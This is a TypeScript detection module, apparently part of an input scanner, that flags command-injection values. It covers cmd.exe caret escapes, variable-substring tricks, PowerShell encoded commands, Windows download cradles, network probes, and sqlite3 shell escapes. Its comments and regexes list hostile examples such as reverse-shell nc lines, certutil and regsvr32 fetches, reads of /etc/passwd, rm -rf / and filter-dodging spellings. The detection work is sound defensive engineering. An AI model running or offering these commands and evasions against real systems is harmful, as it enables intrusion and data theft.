  pathext: '.COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC',
  programw6432: 'C:\\Program Files',
  commonprogramfiles: 'C:\\Program Files\\Common Files',
  commonprogramw6432: 'C:\\Program Files\\Common Files',
  allusersprofile: 'C:\\ProgramData',
  os: 'Windows_NT',
};
/** `%NAME%`, `%NAME:~start,length%` (cmd.exe substrings, negative from the end), `$env:NAME`. */
const WINDOWS_VARIABLE = /%([A-Za-z]\w{1,30})(?::~(-?\d{1,3})(?:,(-?\d{1,3}))?)?%|\$env:([A-Za-z]\w{1,30})/g;

function windowsVariable(name: string, from?: string, length?: string): string | undefined {
  const v = Object.hasOwn(WINDOWS_VARIABLES, name.toLowerCase()) ? WINDOWS_VARIABLES[name.toLowerCase()] : undefined;
  if (v === undefined || from === undefined) return v;
  const start = Number(from) < 0 ? Math.max(0, v.length + Number(from)) : Math.min(v.length, Number(from));
  if (length === undefined) return v.slice(start);
  const n = Number(length);
  return n < 0 ? v.slice(start, Math.max(start, v.length + n)) : v.slice(start, start + n);
}

/**
 * The value as cmd.exe reads it (docs/detection.md, "The rce language round"): `^` escapes the
 * next character, so `who^ami` is `whoami` and `c^m^d` is `cmd`; known variables expand. The
 * expanded text is searched for the code-execution forms (`cmd.exe /c`), and read as shell with
 * each caret turned into an empty quote (`who''ami`), which the shell reader marks as a name
 * spelled to dodge a filter. False at once when there is neither a known variable nor a caret.
 */
function cmdCommandIn(value: string): boolean {
  let expanded = false;
  const text = value.replace(WINDOWS_VARIABLE, (m, name?: string, from?: string, length?: string, env?: string) => {
    const v = env !== undefined ? windowsVariable(env) : windowsVariable(name!, from, length);
    if (v === undefined) return m;
    expanded = true;
    return v;
  });
  // Not a caret opening the value: `^test` is a regular expression's anchor far more often.
  const carets = /[^\s^]\^[^\s^]|[;&|]\s*\^[A-Za-z]/.test(text);
  if (!expanded && !carets) return false;
  const unescaped = carets ? text.replace(/\^(.)/g, '$1') : text;
  // A probe program alone once expanded (`who%CommonProgramFiles:~0,0%ami` is `whoami`), as PowerShell's reading asks.
  if (CODE_EXEC.test(unescaped) || PROGRAM_ALONE.test(unescaped)) return true;
  return shellCommandIn(carets ? text.replace(/\^(?=[^\s^])/g, "''") : text);
}

/**
 * A Markdown document's fenced code blocks (```` ```sh ... ``` ````) show commands, they do not run
 * them: a post or issue with an install recipe is documentation (docs/detection.md, rce). Only
 * closed blocks are dropped; what is outside them is read as before.
 */
const FENCED_BLOCK = /^```[^\n`]*\n[\s\S]*?\n```[ \t]*$/gm;
export function withoutCodeBlocks(value: string): string {
  return value.replace(FENCED_BLOCK, '');
}

/** The longest value read as a plain command line (a command typed alone in a field is short). */
const MAX_PLAIN_COMMAND = 200;

/**
 * A command line without any shell character (`uname -n -s`, `ping -i 30 127.0.0.1`, `nohup
 * ifconfig`): the value opens with a lower-case command that is not an English word, a probe word
 * (`ls`, `id`) or a wrapper, then a space. The first word is looked up before anything is read, so
 * prose (which opens with other words) costs one search for a space; values with shell characters
 * are isRce's.
 */
export function isPlainCommandLine(value: string): boolean {
  if (value.length > MAX_PLAIN_COMMAND || !BLANK.test(value)) return false;
  const spaced = withTabsAsBlanks(value);
  if (spaced !== value) return isPlainCommandLine(spaced);
  if ((value.charCodeAt(0) | 0x20) === 0x69 && (value.charCodeAt(1) | 0x20) === 0x66 && isCmdIf(value)) return true;
  const c = value.charCodeAt(0);
  if (POWERSHELL_FIRST.has(c | 0x20) && POWERSHELL_LINE.test(value)) return true;
  if (c < 0x61 || c > 0x7a) return false;
  const space = value.indexOf(' ');
  if (space < 2 || space > LONGEST_FIRST_WORD) return false;
  const first = value.slice(0, space);
  if (first === 'alias') return aliasedCommand(value);
  // Windows programs answer to their name with `.exe` too (`ping.exe -n 31 127.0.0.1`).
  if (SHELL_META.test(value)) return false;
  if (!PLAIN_FIRST_WORDS.has(first.endsWith('.exe') ? first.slice(0, -4) : first))
    return programLine(value) || (WEAK_SET.has(first) && isPlainShell(value));
  return isPlainShell(value);
}

/**
 * PowerShell cmdlets that run or fetch what they are given, named in full at the start of a value
 * (`Invoke-Expression whoami`, `Start-Process calc.exe`, `iex "..."`): PowerShell reads names in
 * any case, and a cmdlet's Verb-Noun name is no phrase of prose. `Start-Sleep` given only a count
 * (`Start-Sleep 5`, `Start-Sleep -s 10`) is PowerShell's timing probe, as `sleep 5` is the shell's.
 * And PowerShell's own program given code to run, in any case as Windows reads program names
 * (`PowerShell -NoP -EncodedCommand ZABpAHIA=`, branch i18-rce8): its command line takes any
 * prefix of a parameter's name (`-e`, `-en`, `-enc`, ..., `-encodedcommand`; `-c` ... `-command`)
 * and `-ec`, after other switches and their values.
 */
const POWERSHELL_LINE =
  /^\s*(?:invoke-(?:expression|webrequest|restmethod|command|item|wmimethod)|start-(?:process|bitstransfer|sleep(?=\s+(?:-\w{1,12}\s+)?\d{1,6}\s*$))|new-object|set-executionpolicy|(?:iex|iwr|irm)(?=\s*['"$(])|(?:powershell|pwsh)(?:\.exe)?\s+(?:-\w{1,20}\s+(?:\w{1,20}\s+)?){0,6}-(?:ec|e(?:n(?:c\w{0,11})?)?|c(?:o(?:m(?:m(?:a(?:nd?)?)?)?)?)?)(?=\s))\s*\S/i;
const POWERSHELL_FIRST = new Set([0x69, 0x73, 0x6e, 0x70]);

/** Commands that run the command after them (`time sh -c id`, `nohup ifconfig`, `sudo -u x cat ...`). */
const WRAPPERS = new Set([
  // sqlite3's shell commands run the rest of the line (`;\n.shell nc ...`).
  '.shell',
  '.system',
  'time',
  'nohup',
  'sudo',
  'doas',
  'exec',
  // bash's eval runs its arguments as a command line (`;eval id`).
  'eval',
  'command',
  'builtin',
  'env',
  'nice',
  'timeout',
  'strace',
  'ltrace',
  'stdbuf',
  'setsid',
  'xargs',
  'busybox',
  'watch',
  'chroot',
  'ionice',
  'taskset',
  'unbuffer',
]);
/** Wrappers that are English words (`time`, `nice`, `watch`): at the start of a value they wrap only a program, not a word-command ("nice cat"). */
const WORD_WRAPPERS = new Set(['time', 'nice', 'watch', 'command', 'builtin', 'env', 'exec', 'eval', 'timeout', 'xargs']);
/** Interpreters that run their `-c`/`-e` argument as code. */
const INTERPRETER = /^(?:ba|z|k|da|c|tc|fi)?sh$|^(?:python[23]?|perl|ruby|php|node|nodejs|lua|tclsh|pwsh|powershell)$/;
/** Directories whose files are programs: a path into one is a command wherever it stands. */
const BIN_DIR = /^\/(?:usr\/(?:local\/)?)?s?bin\/[\w.+-]+$/;
/**
 * Arguments that make a value starting with a known command a command line: options then a
 * system path (also as dd's `if=`/`of=` operand), a Windows drive, an IPv4 address or a cmd.exe
 * variable (`ping -n 30 127.0.0.1`, `cat /etc/passwd`, `dd if=/etc/passwd of=/tmp/x`, `echo %USERNAME%`).
 */
const START_ARGUMENT =
  /^(?:-\w{1,20}(?:\s{1,4}\d{1,6})?\s{1,4}){0,8}(?:(?:if=|of=|<\s*)?\/(?:etc|bin|tmp|var|proc|usr|dev|home|root|sys|opt|boot)\b|[a-z]:(?:[\\/]|\s*[|&;]|\s*$)|\d{1,3}(?:\.\d{1,3}){3}\b|%[a-z_]{2,30}%)/i;
/** A value that opens with a known command and a START_ARGUMENT (`cat /etc/passwd`), without reading it as shell. */
const COMMAND_LINE = /^\s*(?:['"]\s*)?([a-z][\w.-]{0,30})(?:\s+|(?=<\s*\/))(?=\S)/;

/** Programs that fetch what they are given: with a URL (after options) the value is a download command. */
const DOWNLOADERS = new Set(['wget', 'curl', 'lynx', 'tftp', 'aria2c', 'fetch', 'ftp']);
const URL_ARGUMENT = /^(?:-{1,2}\w[\w-]{0,20}(?:[\s=]{1,4}\S{1,40})?\s{1,4}){0,6}(?:https?|ftps?|tftp):\/\/\S/i;

/**
 * Windows programs that fetch and run, or save, what a URL or a share names (`certutil -urlcache -f
 * http://x/a.exe a.exe`, `mshta http://x/a.hta`, `regsvr32 /s /i:http://x/a.sct scrobj.dll`,
 * `bitsadmin /transfer j http://x/a.exe c:\a.exe`): given a URL or a UNC path among their arguments,
 * with any options before it, the value is a download cradle (docs/detection.md, branch i18-rce4).
 */
const WINDOWS_FETCHERS = new Set(['certutil', 'bitsadmin', 'mshta', 'regsvr32', 'rundll32', 'msiexec', 'cscript', 'wscript']);
/** Programs only Windows ships (of STRONG): no Unix shell runs them, so a name of theirs is cmd.exe's. */
const WINDOWS_PROGRAMS = new Set([
  ...WINDOWS_FETCHERS,
  ...'whoami ipconfig systeminfo tasklist taskkill wmic netsh bcdedit bcdboot schtasks icacls cacls takeown nltest dsquery vssadmin wevtutil findstr forfiles tracert'.split(
    ' ',
  ),
]);

/** Windows programs and the shells that run the others (cmd.exe, PowerShell, `net`, `reg`). */
const WINDOWS_SHELLS = new Set([...WINDOWS_PROGRAMS, 'cmd', 'powershell', 'pwsh', 'net', 'net1', 'reg', 'sc']);

/**
 * cmd.exe ends a command's name at `/`, so a switch may be glued to it (`whoami/all`,
 * `ipconfig/all`, `bcdboot/r file.txt`, branch i18-rce7): the words of a Windows program read so are
 * split as cmd.exe splits them. For another name `a/b` stays a path, as Unix shells read it.
 */
const GLUED_SWITCH = /^([a-z][\w-]{1,30}(?:\.exe)?)(\/[a-z?][a-z:]{0,10})$/i;
function withSwitchApart(words: readonly string[]): readonly string[] {
  const m = words.length > 0 && words[0].includes('/') ? GLUED_SWITCH.exec(words[0]) : null;
  return m !== null && WINDOWS_PROGRAMS.has(baseName(m[1])) ? [m[1], m[2], ...words.slice(1)] : words;
}
/**
 * WMIC's grammar, an alias then a verb (`wmic os get caption`, `wmic process call create calc`,
 * `wmic /node:x useraccount list`), the registry tool given a hive, and cmd.exe's timing probes (`timeout /t 10`, `waitfor /t 10
 * x`): Windows command lines whose words alone are no prose.
 */
const WMIC_ARGUMENTS =
  /^(?:\/\S{1,100}\s+)*(?:process|os|useraccount|service|shadowcopy|qfe|nicconfig|computersystem|group|startup|share|logicaldisk|product|environment|bios|cpu|sysaccount|ntdomain)\s+(?:get|call|list|where|delete|set|create)\b/i;
/** `reg` given an operation and a registry hive (`reg query HKLM\Software`, `reg add "HKCU\...\Run" /v x /d y`). */
const REG_ARGUMENTS =
  /^(?:query|add|delete|save|export|import|copy|load)\s+["']?(?:HKLM|HKCU|HKCR|HKU|HKCC|HKEY_[A-Z_]{4,30})(?:\\|["']?(?:\s|$))/i;
const WINDOWS_WAIT = /^(?:\/\w{1,8}\s+)*\/t\s+\d{1,5}\b/i;
const REMOTE_ARGUMENT = /(?:^|[\s:="'])(?:(?:https?|ftps?):\/\/[\w.-]|\\\\[\w.-]{1,255}\\|(?:java|vb)script:)/i;

/**
 * Programs that reach a host they are given (lookups, pings, connections, downloads): with a host
 * name and nothing else but options and a port, the value is a probe that calls back to whoever
 * owns the name (`nslookup x.oast.example.net`, `ping -c 1 x.example.net`, `nc x.example.net 80`).
 */
const NETWORK_PROBES = new Set([
  'nslookup',
  'dig',
  'ping',
  'traceroute',
  'tracert',
  'tracepath',
  'mtr',
  'nc',
  'ncat',
  'netcat',
  'telnet',
  'curl',
  'wget',
  'nmap',
]);
const HOST_ARGUMENT =
  /^(?:[-+][\w-]{1,20}(?:\s{1,4}\d{1,6})?\s{1,4}){0,6}(?:[a-z0-9-]{1,63}\.)+[a-z]{2,24}\.?(?:[:/]\S*|\s{1,4}\d{1,5})?\s*$/i;

function knownCommandLine(value: string): boolean {
  const m = COMMAND_LINE.exec(value);
  if (m === null) return false;
  const name = baseName(m[1]);
  if (DOWNLOADERS.has(name) && m[1] === name && URL_ARGUMENT.test(value.slice(m[0].length))) return true;
  if (NETWORK_PROBES.has(name) && m[1] === name && HOST_ARGUMENT.test(value.slice(m[0].length))) return true;
  if (FILE_READERS.has(name) && m[1] === name && readsFile(value.slice(m[0].length))) return true;
  if (WINDOWS_FETCHERS.has(name) && REMOTE_ARGUMENT.test(value.slice(m[0].length))) return true;
  if (name === 'wmic' && WMIC_ARGUMENTS.test(value.slice(m[0].length))) return true;
  if (name === 'reg' && REG_ARGUMENTS.test(value.slice(m[0].length))) return true;
  if ((name === 'timeout' || name === 'waitfor') && WINDOWS_WAIT.test(value.slice(m[0].length))) return true;
  if (!STRONG_SET.has(name) && !WEAK_SET.has(name)) return false;
  const rest = value.slice(m[0].length);
  // The root itself as the last argument of the whole value (`rm -rf /`, `ls -la /`; branch
  // i18-rce5); `cd /` changes nothing, and a log line's `(cd / && ...)` is no value of its own.
  if (name !== 'cd' && m[1] === name && ROOT_ARGUMENT.test(rest)) return true;
  return name !== 'set' && name !== 'type' && START_ARGUMENT.test(rest);
}
const ROOT_ARGUMENT = /^(?:-\w{1,20}\s{1,4}){0,8}\/\*?\s*$/;
/**
 * Programs that print a file, given one absolute path to a script, configuration, archive, key or
 * log (`cat /path/file.gz`, `tail /srv/app/config.yml`): a path a page or a document has
 * (`more /about/team.html`) is no such file.
 */
const FILE_READERS = new Set(['cat', 'tac', 'head', 'tail', 'more', 'less', 'nl', 'strings', 'xxd', 'od', 'hexdump', 'zcat']);
const ABSOLUTE_FILE = /^\/[\w.-]{1,64}(?:\/[\w.-]{1,64}){1,10}\s*$/;
function readsFile(arg: string): boolean {
  return ABSOLUTE_FILE.test(arg) && FILE_ARGUMENT.test(arg.trim().slice(arg.lastIndexOf('/') + 1));
}
const COMMAND_WORD = /^(?:[a-z]:)?[\w./+-]{1,64}$/i;
const BIN_DIRS = ['/bin/', '/usr/bin/', '/sbin/', '/usr/sbin/', '/usr/local/bin/'];

/**
 * The value read as shell (shell-tokens.ts): as written, and after a quote it may close (`';id;'`
 * sits inside the application's `'...'`). A command found there decides by how it began and how
 * it is spelled (see isShellCommand).
 */
function shellCommandIn(raw: string): boolean {
  const value = raw.includes('&') && raw.includes(';') ? raw.replace(COMMAND_NAMED_REFERENCE, '_') : raw;
  if (knownCommandLine(value)) return true;
  // `+` for space (form encoding one layer left undone, as shellReadings reads it) in a value
  // without spaces: `+dir+c:/` is `dir c:/` (branch i18-rce6).
  if (value.includes('+') && !value.includes(' ') && knownCommandLine(value.replace(/\+/g, ' ').trimStart())) return true;
  // A command line whose only shell character is `/` (`certutil -urlcache -f http://x/a a.exe`,
  // `chmod 777 /tmp/a`, `tasklist /v`): read as programLine reads one without any, its paths
  // absolute (`and/or` in prose is no path).
  if (!MAY_BE_SHELL.test(value) && !/^\s*\//.test(value)) return programLine(value, true);
  if (shellReadings(value, value)) return true;
  // A line break written as `\n` at the start or after a separator (`;\n.shell nc host 80 -e sh`,
  // `\nid`, `";\n. shell nc ...` after a quote it closes): what an application that unescapes its
  // string (JSON, `echo -e`, printf) hands on.
  return value.includes('\\n') && ESCAPED_BREAK.test(value) && shellReadings(value.replace(ESCAPED_BREAKS, '$1\n'), value);
}

/** The text read as written, with `+` for space, and after a quote it may close. */
function shellReadings(text: string, value: string): boolean {
  if (shellReading(text, value, false)) return true;
  // `+` for space (form encoding one layer left undone) in a value without spaces, or around separators.
  if (
    text.includes('+') &&
    (!text.includes(' ') || /[;&|]\+|\+[;&|]/.test(text)) &&
    shellReading(text.replace(/\+/g, ' '), value, false)
  )
    return true;
  if (text.includes("'") && shellReading("'" + text, value, true)) return true;
  return text.includes('"') && shellReading('"' + text, value, true);
}

/**
 * HTML character references whose names are also command names (`&copy;`, `&reg;`, `&top;`,
 * `&dd;`): text as sent (`Acme&reg; Widgets`, `&copy; 2024`), not a separator, a command and
 * another separator. The other references name no command, so they need no reading; the
 * decoded forms of the value are read as well.
 */
const COMMAND_NAMED_REFERENCE = /&(?:copy|COPY|reg|REG|top|dd);/g;

/** `\n` written as two characters at the start of the value or after a separator (not `c:\new`). */
const ESCAPED_BREAK = /(?:^|[;|&])\s*\\n/;
const ESCAPED_BREAKS = /(^|[;|&]\s*)\\n/g;

/** What every shell form other than a plain leading path needs: a separator, substitution, quote, escape or brace. */
const MAY_BE_SHELL = /[;&|\n\r()`$'"\\{%]/;
/** A value that opens by closing a quoted string and ending the command (`';echo x;'`). */
const QUOTE_BREAK = /^\s*['"]\s*[;|&\n]/;

function shellReading(text: string, value: string, afterQuote: boolean): boolean {
  const r = readShell(text);
  if (r.truncated) noteReaderCap();
  if (r.ifs && r.commands.length > 0) return true;
  const breaksOut = afterQuote && QUOTE_BREAK.test(value);
  const leads = !afterQuote && LEADING_SEPARATOR.test(text) && !TABLE_ROW.test(text);
  const script = r.commands.length > 1 && isScriptShown(value);
  for (let i = 0; i < r.commands.length; i++) {
    const c = r.commands[i];
    if (afterQuote && c.began === 'start') continue;
    if (isShellCommand(c, value, script)) return true;
    if (leads && i === 0 && ledCommand(c)) return true;
    // `cd /;cd etc;...`, `cd /tmp && wget ...`: a change of directory to a path, then more commands.
    if (i === 0 && c.began === 'start' && r.commands.length > 1 && CHANGE_DIRECTORY.test(c.words.join(' '))) return true;
    // The first command after a quote break-out: any known command, whatever its argument.
    if (breaksOut) {
      const name = baseName(c.words[0]);
      if ((STRONG_SET.has(name) || WEAK_SET.has(name)) && c.words[0] === name) return true;
    }
  }
  return false;
}

/**
 * A whole script as documentation and snippets show one (docs/detection.md, branch i18-rce4): a
 * script file from its `#!` line, a compound command written out from its keyword to its end (`for i in $(seq 1 10); do ...; done`,
 * `if ...; then ...; fi`), or lines after a package manager's subcommand line (`pip install
 * requests` then `python -m http.server 8000`: a README's next step) or after a profile's `export`
 * line. Its substitutions and later
 * lines are ordinary commands; only what an attack needs counts there (isShellCommand).
 */
const COMPOUND_OPEN = /^\s*(for|while|until|select|if|case)\s/;
const COMPOUND_CLOSE: Record<string, RegExp> = {
  for: /\bdone\s*;?\s*$/,
  while: /\bdone\s*;?\s*$/,
  until: /\bdone\s*;?\s*$/,
  select: /\bdone\s*;?\s*$/,
  if: /\bfi\s*;?\s*$/,
  case: /\besac\s*;?\s*$/,
};
const PACKAGE_LINE = /^\s*(?:npm|npx|pip3?|pipx|gem|apt|apt-get|aptitude|yum|dnf|rpm|dpkg)[ \t]+[a-z][^\n;|&`$]*\r?\n/;
/**
 * A shell profile's line setting a variable for what follows (`export PATH=$HOME/bin:$PATH` then
 * `source ~/.bashrc`): the lines of a `.bashrc` or a README's setup step (branch i18-rce5).
 */
const EXPORT_LINE = /^\s*export[ \t]+[A-Za-z_]\w{0,40}=[^\n;|&`]*\r?\n/;
/** A script file's first line naming its interpreter (`#!/bin/bash`, `#!/usr/bin/env python3`). */
const SHEBANG = /^#![ \t]*\/(?:usr\/)?(?:local\/)?bin\/(?:env[ \t]+)?[\w.-]{1,30}[^\n]{0,100}\r?\n/;
function isScriptShown(value: string): boolean {
  if (value.startsWith('#!')) return SHEBANG.test(value);
  const open = COMPOUND_OPEN.exec(value);
  if (open !== null) return COMPOUND_CLOSE[open[1]].test(value);
  return PACKAGE_LINE.test(value) || EXPORT_LINE.test(value);
}

/**
 * A value that opens by ending a command (`;who`, `| top`, `&& id`, `&aptitude`): the application
 * put it after its own command line, so what follows is the next command (docs/detection.md, "The
 * rce language round"). A Markdown table row (`| id | name |`) opens with a bar too. A line
 * break as the value's first character ends the command as `;` does (`%0aecho x`, branch
 * i18-rce8); a break after text starts a line of prose or of a list (afterNewline).
 */
const LEADING_SEPARATOR = /^\s*[;|&]|^\r?\n/;
/** sqlite3's shell commands that list a database's contents (`;\n.databases`, `;.tables`): a probe for that shell. */
const SQLITE_PROBE = /^\.(?:databases|tables|schema|fullschema|dbinfo|dump|indexes|indices)$/;
const TABLE_ROW = /^\s*\|(?:[^|\n]*\|){2,}\s*(?:\n|$)/;

/** `cd` (cmd.exe's `CD` too) to an absolute, home or parent path. */
const CHANGE_DIRECTORY = /^cd (?:\/|~|\.\.|[a-z]:\\)\S*$/i;

/** What a probe prints its marker with (`;echo vulnerable`): after a leading separator any word will do. */
const ECHOES = new Set(['echo', 'printf']);

/**
 * The first command after a leading separator: a program with anything, a word-command alone or
 * with an argument that fits (`;set`, `|top`, `;date -f x`), or any command-shaped name given an
 * option (`;rmt --version`, `;lastlogin -u admin`): "; see also" is a list.
 */
function ledCommand(c: ShellCommand): boolean {
  if (c.began !== 'separator') return false;
  const word = c.words[0];
  const name = baseName(word);
  const args = c.words.slice(1);
  if (STRONG_SET.has(name) || SQLITE_PROBE.test(word)) return true;
  if (word !== word.toLowerCase()) return false;
  // A word-command with a few arguments that are no words of prose (`;echo CVE-2023-1|rev`, `;sleep 5s`).
  if (WEAK_SET.has(name))
    return (
      args.length === 0 ||
      commandArgument(name, args.join(' ')) ||
      (args.length <= 2 && (ECHOES.has(name) || args.some((a) => /[^A-Za-z]/.test(a))))
    );
  return /^[a-z][a-z0-9_-]{1,30}$/.test(word) && /^--?[a-z]/.test(args[0] ?? '');
}

/**
 * Shell without any metacharacter but quotes: a command
 * name split by quotes (`wh''oami`, `'i'fconfig`), an interpreter given code (`sh -c whoami`), or
 * a wrapper running a command (`time sh -c id`, `nohup ifconfig`).
 */
const SPLIT_NAME =
  /[A-Za-z](?:''|"")[A-Za-z]|[A-Za-z]'[A-Za-z]{1,20}'[A-Za-z]|[A-Za-z]"[A-Za-z]{1,20}"[A-Za-z]|^\s*(['"])[A-Za-z]{1,20}\1[A-Za-z]/;
const PLAIN_START =
  /^\s*[a-z][\w.-]{0,30}\s+(?:-{1,2}\w|\d{1,3}(?:\.\d{1,3}){3}\b)|^\s*(?:time|nohup|sudo|doas|env|nice|timeout|strace|ltrace|stdbuf|setsid|watch|(?:ba|z|k|da)?sh|python[23]?|perl|ruby|php|node|lua)\s/;

const PLAIN_FIRST_WORDS = new Set([
  ...STRONG,
  ...ALONE,
  'ping',
  'time',
  'nohup',
  'sudo',
  'doas',
  'env',
  'nice',
  'timeout',
  'stdbuf',
  'setsid',
  'watch',
  'sleep',
  'cat',
  'head',
  'tail',
  'ls',
]);

const LONGEST_FIRST_WORD = Math.max(...[...PLAIN_FIRST_WORDS].map((w) => w.length));

/**
 * A probe word that is the whole value, quoted (`'id'`, `"whoami"`): the shell reads the name
 * without its quotes, and no one quotes a lone program's name in a field but to slip it past a
 * filter of words (branch i18-rce5). `'dir'`, `"env"`, `'ps'` are left: words and abbreviations.
 */
const QUOTED_PROBE = /^\s*(['"])(?:id|ls|pwd|uname|whoami|ifconfig|ipconfig|netstat|systeminfo)\1\s*$/;

/** A timing probe as the whole value (`sleep 5`, `sleep 10s`): the shell's delay and a count, no word of a sentence. */
const SLEEP_ALONE = /^\s*sleep\s+\d{1,4}(?:\.\d{1,3})?[smhd]?\s*$/;

/**
 * The shell's timing probe on the last line of the value after a line break (`%0asleep 5`,
 * `x\r\nsleep 10\r\n`): the break ends the application's command and nothing follows the probe
 * (branch i18-rce7). A guide's `sleep 5` between other lines, or `sleep 5 seconds`, stays text.
 */
const SLEEP_LAST_LINE = /\n[ \t]*sleep[ \t]+\d{1,4}(?:\.\d{1,3})?[smhd]?[ \t\r\n]*$/;

function isPlainShell(value: string): boolean {
  if (
    POWERSHELL_LINE.test(value) ||
    knownCommandLine(value) ||
    programLine(value) ||
    QUOTED_PROBE.test(value) ||
    SLEEP_ALONE.test(value)
  )
    return true;
  if (!SPLIT_NAME.test(value) && !PLAIN_START.test(value)) return false;
  return shellReading(value, value, false);
}

/**
 * A command a shell would run, not text: inside a substitution any known command; after a
 * separator a known command with an argument that fits (as separatedCommand); at the start of the
 * value only a command name spelled to dodge filters (`wh''oami`), a program given by its path in a
 * bin directory, an interpreter with `-c`, or a known command run by a wrapper (`time sh -c id`).
 */
function isShellCommand(c: ShellCommand, value: string, script = false): boolean {
  const w = sqliteMetaCommand(c.words) ?? withSwitchApart(c.words);
  let k = 0;
  let wrapped = false;
  while (k < w.length - 1 && WRAPPERS.has(w[k])) {
    k++;
    wrapped = true;
    while (k < w.length - 1 && /^(?:-\S*|\d+[smhd]?|[A-Za-z_]\w*=.*)$/.test(w[k])) k++;
  }
  // `env --version`: the wrapper is the command.
  if (wrapped && w[k].startsWith('-')) k = 0;
  let word = w[k];
  if (c.glob) word = globCommand(word) ?? word;
  // A command is a name or a path (`/bin/cat`, `./x`), never a URL or text with `:`/`@`; but a
  // whole command line quoted after a separator (`;'wget http://x/a.sh;'`) is what `eval` or
  // `sh -c` of the application's string runs.
  if (!COMMAND_WORD.test(word)) return c.began === 'separator' && k === 0 && w.length === 1 && quotedCommandLine(word);
  // At the start of the value, a program that is not a word (or a tool of its suite, `ansible-pull`)
  // given arguments a command line has: subcommand words then an option, a path or a script
  // (`ansible all -m ping`, `chef-client -t 1.1.1.1`).
  // After a separator too (`time; chef-client -t 1.1.1.1`), not after a line break (a guide's next line).
  if (
    (c.began === 'start' || (c.began === 'separator' && !c.afterNewline)) &&
    k === 0 &&
    value.length <= MAX_PLAIN_COMMAND &&
    programArguments(word, w.slice(1))
  )
    return true;
  const binPath = BIN_DIR.test(word);
  const name = baseName(word.slice(word.lastIndexOf('/') + 1));
  const strong = STRONG_SET.has(name);
  const known = strong || WEAK_SET.has(name);
  if (!known && !binPath) return false;
  const args = w.slice(k + 1);
  const arg = args.join(' ');
  const lower = word === word.toLowerCase();
  // vi and ex run an ex command given as `+cmd` or `-c cmd`, and ex's `!` runs a shell command.
  if (lower && EX_EDITORS.has(name) && exRunsShell(args)) return true;
  // In a script shown as text (isScriptShown), a substitution or a later line of a word-command is
  // the script's own (`$(seq 1 10)`, `node server.js`): a probe alone, a system file or a bin path counts.
  if (script && (c.began === 'substitution' || c.afterNewline) && !binPath && !(strong && c.began === 'substitution'))
    return (
      known &&
      lower &&
      (c.obfuscated || args.some((a) => SYSTEM_FILE.test(a)) || (args.length === 0 && (ALONE.has(name) || RECON.has(name))))
    );
  // In a script shown as text, a program of the body run on the loop's own items, with options or
  // with counts only (`for f in *.log; do gzip -9 "$f"; done`: the reader drops the expansion
  // `"$f"`; `while true; do date; sleep 1; done`) is the script's own step, as above
  // (docs/detection.md, branches i18-fp15, i18-rce5); a URL, address, path or redirection among
  // its arguments is read as before, and so is an interpreter (`... | sh`), which runs whatever
  // reaches it.
  if (
    script &&
    c.began === 'separator' &&
    !c.afterNewline &&
    !binPath &&
    !INTERPRETER.test(name) &&
    !c.redirected &&
    args.every((a) => SCRIPT_STEP_ARGUMENT.test(a))
  )
    return known && lower && (c.obfuscated || (args.length === 0 && (ALONE.has(name) || RECON.has(name))));
  if (c.began === 'substitution') {
    if (c.backtick && args.length === 0) {
      const at = value.indexOf('`' + w[k]);
      if (at >= 0 && !embedded(value, at, at + w[k].length + 2)) return false;
    }
    return binPath || (strong && (lower || args.length > 0)) || (known && lower);
  }
  if (known && c.obfuscated && (lower || c.glob)) return true;
  if (c.began === 'separator') {
    if (binPath) return true;
    // A line of text may start with a program's name ("npm install --save-dev x" in a README):
    // after a line break a known command needs no argument or a shell-shaped one.
    if (c.afterNewline)
      return known && lower && (args.length === 0 ? ALONE.has(name) || strong : shellArgument(arg) && !isStackFrame(name, arg));
    if (strong && (lower || shellArgument(arg))) return true;
    // Output sent to a file (`|| echo 'x' > /var/www/html/a.txt`): prose has no redirections.
    if (known && lower && c.redirected && args.length > 0) return true;
    // A system or hidden file among the arguments (`;grep root /etc/passwd`, `;cat .env`, `;type web.config`).
    if (known && lower && args.some((a) => SYSTEM_FILE.test(a))) return true;
    // cmd.exe ignores case: `| Dir c:\` is a command where "| Dir" alone is not.
    return known && (lower || /^[a-z]:/i.test(arg)) && (wrapped || commandArgument(name, arg));
  }
  // The start of the value: text starts with words, so the word alone is not enough.
  if (binPath) return true;
  if (known && lower && START_ARGUMENT.test(arg)) return true;
  if (wrapped && lower && (strong || (known && !WORD_WRAPPERS.has(w[0])))) return true;
  // A probe given only options (`uname -n -s`, `ls -la`, `netstat -an`): the whole value is the command line.
  if (lower && (strong || ALONE.has(name)) && optionsOnly(args)) return true;
  // A word-command given only options, a long one among them (`perf --version`, `free --human`):
  // prose writes no `--word` after its first word.
  if (lower && known && optionsOnly(args) && args.some((a) => /^--[a-z]{3}/.test(a))) return true;
  // Options with counts (`ping -n 30`, `sleep -s 5`): what a timing probe sends.
  if (lower && NUMERIC_ARGUMENT.has(name) && /^(?:-\w{1,3}\s+\d{1,6}\s*)+$/.test(arg)) return true;
  // A reconnaissance program that no sentence opens with, ended by a separator (`whoami;`, `ifconfig|`).
  if (lower && args.length === 0 && RECON.has(name) && new RegExp(`^\\s*${name}\\s*[;|&\\n]`).test(value)) return true;
  // A probe word and nothing but the separator that ends it (`id;`, `ls|`), or a comment that
  // cuts what the application appends (`id;#`, `id #`; `#` glued to a word is no comment): the
  // whole value is a command.
  if (
    lower &&
    args.length === 0 &&
    ALONE.has(name) &&
    new RegExp(`^\\s*${name}(?:\\s*[;|&]+\\s*(?:#\\s*)?|\\s+#\\s*)$`).test(value)
  )
    return true;
  // A program that is not a word, given an option first (`cpulimit -l 100 -f whoami`).
  if (strong && lower && !wrapped && /^--?[a-z]/i.test(args[0] ?? '') && args.length > 1) return true;
  if (INTERPRETER.test(name) && lower && /^-\w*[ce]$/.test(args[0] ?? '') && args.length > 1) return true;
  return false;
}

/**
 * sqlite3's command-line shell reads a line that opens with `.` as its own command, the name
 * after blanks and quotes (`. shell`, `."shell"`) and any prefix of two letters or more standing for
 * the whole (`.sh` is `.shell`, `.sy` is `.system`): a shell or system command runs the rest of the
 * line (branch i18-rce5). The words as the wrapper `.shell` then its command, or null.
 */
const SQLITE_RUNNER = /^(?:sh(?:e(?:ll?)?)?|sy(?:s(?:t(?:em?)?)?)?)$/;
function sqliteMetaCommand(words: readonly string[]): string[] | null {
  const first = words[0];
  if (first === undefined || first.charCodeAt(0) !== 0x2e || first.length > 10) return null;
  const glued = first.slice(1).replace(/['"\\]/g, '');
  const name = glued === '' ? (words[1] ?? '').replace(/['"\\]/g, '') : glued;
  if (!SQLITE_RUNNER.test(name)) return null;
  return ['.shell', ...words.slice(glued === '' ? 2 : 1)];
}

